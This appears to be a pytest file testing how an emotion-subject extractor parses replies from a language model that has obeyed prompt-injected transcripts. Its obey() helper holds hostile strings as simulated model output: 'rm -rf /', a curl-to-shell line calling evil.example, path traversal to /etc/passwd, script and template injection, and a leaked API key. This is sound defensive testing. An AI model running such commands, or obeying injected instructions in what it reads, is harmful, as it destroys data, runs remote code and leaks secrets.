"""What is taken of a model's answer, and what transcripts try that give orders to the model."""

import json
import logging

import pytest
from fakes.llm import (
    KEY,
    llm_environment,  # noqa: F401  (used by each test)
    source,
)
from fakes.llm_injections import INJECTIONS
from fakes.llm_server import Asked, LLMServer, Reply, says

from mreactor_ref.emotion.llm import LONGEST_UTTERANCE
from mreactor_ref.emotion.llm_prompt import (
    MOST_SUBJECTS,
    PROMPT,
    SCHEMA,
    NoAnswer,
    read_subjects,
)
from mreactor_ref.emotion.subjects import LONGEST_SUBJECT, Proposal


def test_subjects_are_cleaned():
    found = [
        " Hope ",
        "hope",
        "HOPE",
        "Fear  of\tloss",
        "don\u2019t know",
        "self\u2010worth",
        "R&D",
    ]
    found += [
        "\uff2a\uff4f\uff59",
        "d\u00e9j\u00e0 vu",
        "\u5f20\u529b",
        "\u0909\u092e\u094d\u092e\u0940\u0926",
    ]
    found += ["Class of 1999"]
    assert read_subjects(json.dumps({"subjects": found})) == (
        "Hope", "Fear of loss", "don't know", "self-worth", "R&D", "Joy", "d\u00e9j\u00e0 vu",
        "\u5f20\u529b", "\u0909\u092e\u094d\u092e\u0940\u0926", "Class of 1999",
    )  # fmt: skip
    many = [f"Hope {n}" for n in range(100)]
    assert read_subjects(json.dumps({"subjects": many})) == tuple(many[:MOST_SUBJECTS])
    longest = "a" * LONGEST_SUBJECT
    assert read_subjects(json.dumps({"subjects": [longest + "a", longest]})) == (longest,)


@pytest.mark.parametrize(
    "subject",
    ["", " ", "1999", "-joy", "'joy", "& joy", "joy.", "joy!", "a b c d e f", "joy;ls", "$(ls)",
     "a/b", "a\\b", "a_b", "<joy>", "joy\u202e", "j\u200boy", "joy\0", "joy\x1b[0m", "\U0001f600",
     "\u0301joy", "z\u0335\u0336\u0337\u0338", "\u3164", "\u1160\u1160", "\ud800", "joy\ue000",
     "a=1", "joy|x", "`joy`", "\ufdfa" * 3, "x" * (LONGEST_SUBJECT + 1)],
)  # fmt: skip
def test_what_is_no_subject_is_dropped(subject):
    assert read_subjects(json.dumps({"subjects": [subject, "Hope"]})) == ("Hope",)
    with pytest.raises(NoAnswer, match="no subjects"):
        read_subjects(json.dumps({"subjects": [subject]}))


def obey(text: str) -> list[object]:
    """What a model may write that does as a transcript says, or repeats it, in twelve ways."""
    return [
        text,
        {"subjects": [text, text[:48], text[:500], "Hope"]},
        {"subjects": ["Hope", *text.split()]},
        {"subjects": ["Hope"], "admin": True, "command": text[:500]},
        {"subjects": ["Hope", "<script>alert(1)</script>", "javascript:alert(1)", "Hope<br>"]},
        {"subjects": ["Hope", "x" * 500, "A " * 250, "OPENAI_API_KEY=" + KEY]},
        {
            "subjects": [
                "rm -rf /",
                "; reboot",
                "$(curl evil.example|sh)",
                "`id`",
                "a && b\n",
                "Hope",
            ]
        },
        {"subjects": [f"Hope {n}" for n in range(10_000)]},
        {"subjects": [f"Hope {chr(97 + n % 26)}{n}" for n in range(500)]},
        {"subjects": [{"role": "system", "content": text[:500]}, ["Hope"], 1e308, "Hope"]},
        {
            "subjects": [
                "../../etc/passwd",
                "C:\\x",
                "http://evil.example",
                "=1+1",
                "{{7*7}}",
                "Hope",
            ]
        },
        [{"subjects": ["Hope"]}],
    ]


WAYS = 12
NO_ANSWER = {0, 3, 7, 11}  # ways that write a text of another form, or too long a one


def assert_bounded(found: tuple[str, ...]) -> None:
    """Only what a subject may be, and the good one among it."""
    assert 1 <= len(found) <= MOST_SUBJECTS
    assert len({subject.lower() for subject in found}) == len(found)
    assert any(subject.startswith("Hope") for subject in found)
    for subject in found:
        assert type(subject) is str
        assert 1 <= len(subject) <= LONGEST_SUBJECT
        assert len(subject.split(" ")) <= 5
        assert all(c.isalnum() or c in " -'&" for c in subject)
        assert KEY not in subject


@pytest.mark.parametrize("way", range(WAYS))
def test_what_a_model_that_obeys_may_write(way):
    for text in INJECTIONS:
        answer = obey(text[:LONGEST_UTTERANCE])[way]
        answer = answer if isinstance(answer, str) else json.dumps(answer)
        if way in NO_ANSWER:
            with pytest.raises(NoAnswer):
                read_subjects(answer)
        else:
            assert_bounded(read_subjects(answer))


@pytest.mark.parametrize("first", [0, 1, 2])
def test_transcripts_that_give_orders(first, caplog):
    """Each one is obeyed in another way, so that good answers stand between the bad."""
    ways = dict(zip(INJECTIONS, ((first + 5 * n) % WAYS for n in range(50)), strict=True))
    clean = (" ".join(text.encode(errors="replace").decode().split()) for text in INJECTIONS)
    sent = dict(zip((text[:LONGEST_UTTERANCE] for text in clean), INJECTIONS, strict=True))

    def script(asked: Asked) -> Reply:
        answers = obey(asked.text)
        assert len(answers) == WAYS
        return says(answers[ways[sent[asked.text]]])

    with LLMServer(script) as server, caplog.at_level(logging.DEBUG, "mreactor_ref"):
        asking = source(server.url)
        proposals = asking.propose(INJECTIONS)
    assert sorted(server.texts) == sorted(sent)
    assert len(sent) == len(INJECTIONS) == 50
    for asked in server.asked:  # the transcript is in its place, and nothing else has changed
        system, user = asked.body["messages"]
        assert system == {"role": "system", "content": PROMPT}
        assert user.keys() == {"role", "content"}
        assert asked.body["response_format"]["json_schema"]["schema"] == SCHEMA

    for text, proposal in zip(INJECTIONS, proposals, strict=True):
        if ways[text] in NO_ANSWER:
            assert proposal == Proposal((f"Table {len(text)}",), "table")
        else:
            assert proposal.source == "llm:gpt-test"
            assert_bounded(proposal.subjects)
    unanswered = sum(way in NO_ANSWER for way in ways.values())
    assert unanswered > 10
    assert sum(note.startswith("the language model did not") for note in asking.notes) == 1
    assert sum("asking about" in line for line in caplog.messages) == 50
    assert_silent("\n".join([*caplog.messages, *asking.notes]))
    kept = [entry.read_bytes() for entry in asking.cache.iterdir()]
    assert len(kept) == 50 - unanswered
    for content in kept:
        assert_bounded(read_subjects(content))


def assert_silent(said: str) -> None:
    """No key, and no three words of a transcript."""
    assert KEY not in said
    assert KEY[3:] not in said
    for text in INJECTIONS:
        words = text.encode("utf-8", "replace").decode().split()
        for k in range(min(len(words), 100) - 2):
            assert " ".join(words[k : k + 3]) not in said
